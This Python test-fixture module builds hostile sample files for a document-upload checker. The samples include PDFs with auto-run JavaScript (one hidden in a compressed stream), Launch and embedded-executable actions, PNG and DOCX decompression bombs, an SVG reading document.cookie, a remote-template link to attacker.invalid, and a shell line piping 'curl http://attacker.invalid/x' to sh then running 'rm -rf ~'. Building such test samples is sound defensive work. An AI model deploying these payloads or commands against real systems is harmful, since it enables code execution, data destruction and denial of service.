"""Real files for the document tests, built in memory."""

import functools
import io
import struct
import zipfile
import zlib

from PIL import Image

GPS_IFD = 0x8825


def jpeg_with_gps(size=(64, 48), color=(200, 30, 30)) -> bytes:
    img = Image.new("RGB", size, color)
    exif = Image.Exif()
    exif[0x010F] = "ExampleCam"  # Make
    exif[0x0110] = "Model X"  # Model
    exif[0x0131] = "Secret Editor 1.0"  # Software
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (48.0, 51.0, 29.0)
    gps[3] = "E"
    gps[4] = (2.0, 17.0, 40.0)
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif, comment=b"shot at home")
    return out.getvalue()


def image(fmt: str, size=(64, 48), mode="RGB", color=(10, 120, 200), **save) -> bytes:
    img = Image.new(mode, size, color)
    out = io.BytesIO()
    img.save(out, fmt, **save)
    return out.getvalue()


def png_with_text() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "Jane Doe, 1 Secret Lane")
    return image("PNG", pnginfo=info)


def animated_gif(frames=3, size=(40, 30)) -> bytes:
    imgs = [Image.new("RGB", size, (i * 60, 0, 0)) for i in range(frames)]
    out = io.BytesIO()
    imgs[0].save(out, "GIF", save_all=True, append_images=imgs[1:], duration=80, loop=0,
                 comment=b"hidden comment")
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def png_bomb(width=100_000, height=100_000) -> bytes:
    """A PNG whose header claims 10 gigapixels, with a few bytes of image data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat)
            + _png_chunk(b"IEND", b""))


def build_pdf(objects: list[bytes], *, trailer: bytes = b"", comment: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table: object 1 is the catalog."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    if comment:
        out += b"% " + comment + b"\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, trailer, xref)
    return bytes(out)


_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


def pdf(*, catalog: bytes = b"", page: bytes = b"", more: list[bytes] | None = None) -> bytes:
    """A one-page PDF; `catalog` and `page` add entries to those dictionaries,
    `more` adds objects 4, 5, ... (referenced as `4 0 R`, ...)."""
    return build_pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>", _PAGES,
                      _PAGE[:-2] + page + b">>", *(more or [])])


def pdf_open_action_javascript() -> bytes:
    return pdf(catalog=b"/OpenAction 4 0 R",
               more=[b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"])


def pdf_with_compressed_javascript() -> bytes:
    """The JavaScript action sits in a compressed object stream: no '/JavaScript'
    in the file's raw bytes."""
    inner = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"4 0 "
    stream = zlib.compress(header + inner)
    objstm = (b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\n"
              b"stream\n" % (len(header), len(stream)) + stream + b"\nendstream")
    body = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", _PAGES, _PAGE]
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    objstm_offset = len(body)
    body += b"5 0 obj\n" + objstm + b"\nendobj\n"
    # cross-reference stream: type 1 (offset) rows, object 4 as type 2 (in stream 5)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets]
    rows.append(struct.pack(">BIH", 2, 5, 0))
    rows.append(struct.pack(">BIH", 1, objstm_offset, 0))
    xref_offset = len(body)
    rows.append(struct.pack(">BIH", 1, xref_offset, 0))
    data = b"".join(rows)
    body += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\n"
             b"stream\n" % len(data) + data + b"\nendstream\nendobj\n")
    body += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(body)


def pdf_with_goto_open_action() -> bytes:
    """Open at page 1, fit: a destination, not an action; harmless and common."""
    return pdf(catalog=b"/OpenAction [3 0 R /Fit]")


def pdf_with_names_javascript() -> bytes:
    return pdf(catalog=b"/Names << /JavaScript 4 0 R >>",
               more=[b"<< /Names [(x) 5 0 R] >>", b"<< /S /JavaScript /JS (1) >>"])


def pdf_with_page_additional_actions() -> bytes:
    return pdf(page=b"/AA << /O 4 0 R >>", more=[b"<< /S /JavaScript /JS (1) >>"])


def pdf_with_launch_annotation() -> bytes:
    return pdf(page=b"/Annots [4 0 R]",
               more=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch "
                     b"/F (cmd.exe) >> >>"])


def pdf_with_embedded_file() -> bytes:
    return pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
               more=[b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                     b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"])


def pdf_with_xfa_form() -> bytes:
    return pdf(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>",
               more=[b"<< /Length 5 >>\nstream\n<xdp>\nendstream"])


def pdf_with_rich_media() -> bytes:
    return pdf(page=b"/Annots [4 0 R]",
               more=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"])


HTML_STARTING_LIKE_PDF = (b"%PDF-1.4\n<!DOCTYPE html><html><body><script>"
                          b"fetch('/api/customers').then(r=>r.text())</script></body></html>\n")


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    '<w:body><w:p><w:r><w:t>Police report</w:t></w:r></w:p></w:body></w:document>'
)


def docx(order=("[Content_Types].xml", "_rels/.rels", "word/document.xml"),
         extra: dict | None = None) -> bytes:
    parts = {"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _RELS,
             "word/document.xml": _DOCUMENT, **(extra or {})}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in [*order, *(extra or {})]:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 2, 3, 4, 5))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, parts[name])
    return out.getvalue()


def docx_with(members: dict[str, bytes | str], *, compression=zipfile.ZIP_DEFLATED,
              content_types: str | None = None) -> bytes:
    """A valid Word package plus the given members."""
    out = io.BytesIO()
    parts = {"[Content_Types].xml": content_types or _CONTENT_TYPES, "_rels/.rels": _RELS,
             "word/document.xml": _DOCUMENT, **members}
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 2, 3, 4, 5))
            info.compress_type = compression
            archive.writestr(info, data)
    return out.getvalue()


@functools.lru_cache(maxsize=2)
def docx_zip_bomb(size=200 * 1024 * 1024) -> bytes:
    """A Word package with a 200 MB member of zeros: about 200 KB to upload."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (("[Content_Types].xml", _CONTENT_TYPES), ("_rels/.rels", _RELS),
                           ("word/document.xml", _DOCUMENT)):
            archive.writestr(name, data)
        info = zipfile.ZipInfo("word/media/image1.png", date_time=(2024, 1, 2, 3, 4, 5))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(size // len(chunk)):
                member.write(chunk)
    return out.getvalue()


def docx_understating_its_size() -> bytes:
    """The central directory says a member is small; its data inflates far beyond."""
    raw = bytearray(docx_with({"word/media/image1.png": b"\0" * (60 * 1024 * 1024)}))
    # Patch the declared uncompressed size (central directory and local header) to 1000.
    name = b"word/media/image1.png"
    for signature, size_offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (start := raw.find(signature, start)) != -1:
            name_offset = 46 if signature == b"PK\x01\x02" else 30
            if raw[start + name_offset:start + name_offset + len(name)] == name:
                raw[start + size_offset:start + size_offset + 4] = struct.pack("<I", 1000)
            start += 4
    return bytes(raw)


_DOCUMENT_RELS_ALTCHUNK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/aFChunk" Target="chunk.xml"/></Relationships>'
)
_SETTINGS_RELS_REMOTE_TEMPLATE = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="https://attacker.invalid/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
_DOCUMENT_RELS_HYPERLINK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/hyperlink" Target="https://example.com/" TargetMode="External"/>'
    '<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/image" Target="media/image1.png"/></Relationships>'
)


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "hello")
    return out.getvalue()


SHELL_SCRIPT = b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\nrm -rf ~\n"
HTML_PAGE = (b"<!DOCTYPE html><html><head><title>x</title></head>"
             b"<body><script>fetch('/api/customers').then(r=>r.text())</script></body></html>")
SVG_WITH_SCRIPT = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
                   b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                   b'<script type="text/javascript">alert(document.cookie)</script>'
                   b'<rect width="10" height="10"/></svg>')


# --- a minimal Compound File (the container of .doc and .xls) --------------------------

_END, _FREE, _FATSECT, _NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def _cfb_entry(name: str | None, kind: int, child=_NOSTREAM, start=_END, size=0) -> bytes:
    raw = (name + "\0").encode("utf-16-le") if name else b""
    return (raw.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(raw), kind, 1 if name else 0, _NOSTREAM, _NOSTREAM,
                          child)
            + b"\0" * 36 + struct.pack("<IQ", start if name else 0, size))


def compound_file(stream_name: str, stream_head: bytes, stream_size=4096) -> bytes:
    """A version 3 Compound File with one stream: "WordDocument" makes a Word 97
    .doc, "Workbook" an Excel .xls, as far as any content sniffer can tell."""
    sectors = stream_size // 512
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<9I", 0, 1, 1, 0, 0x1000, _END, 0, _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)
    fat = [_FATSECT, _END] + [3 + i for i in range(sectors - 1)] + [_END]
    fat += [_FREE] * (128 - len(fat))
    directory = (_cfb_entry("Root Entry", 5, child=1)
                 + _cfb_entry(stream_name, 2, start=2, size=stream_size)
                 + _cfb_entry(None, 0) + _cfb_entry(None, 0))
    return (header + struct.pack("<128I", *fat) + directory
            + stream_head.ljust(stream_size, b"\0"))


def word_97_doc() -> bytes:
    return compound_file("WordDocument", struct.pack("<HH", 0xA5EC, 0xC1))


def word_97_doc_with_macros() -> bytes:
    """A .doc whose compound file also holds a Macros storage (where Word keeps VBA)."""
    return _compound_file_with_storage("Macros")


def word_97_doc_with_object() -> bytes:
    return _compound_file_with_storage("ObjectPool")


def _compound_file_with_storage(storage: str, stream_size=4096) -> bytes:
    sectors = stream_size // 512
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<9I", 0, 1, 1, 0, 0x1000, _END, 0, _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)
    fat = [_FATSECT, _END] + [3 + i for i in range(sectors - 1)] + [_END]
    fat += [_FREE] * (128 - len(fat))

    def entry(name, kind, left=_NOSTREAM, right=_NOSTREAM, child=_NOSTREAM, start=_END,
              size=0):
        raw = (name + "\0").encode("utf-16-le") if name else b""
        return (raw.ljust(64, b"\0")
                + struct.pack("<HBBIII", len(raw), kind, 1 if name else 0, left, right, child)
                + b"\0" * 36 + struct.pack("<IQ", start if name else 0, size))

    directory = (entry("Root Entry", 5, child=1)
                 + entry("WordDocument", 2, right=2, start=2, size=stream_size)
                 + entry(storage, 1)
                 + entry(None, 0))
    return (header + struct.pack("<128I", *fat) + directory
            + struct.pack("<HH", 0xA5EC, 0xC1).ljust(stream_size, b"\0"))


def excel_97_xls() -> bytes:
    return compound_file("Workbook", b"\x09\x08\x10\x00\x00\x06\x05\x00")
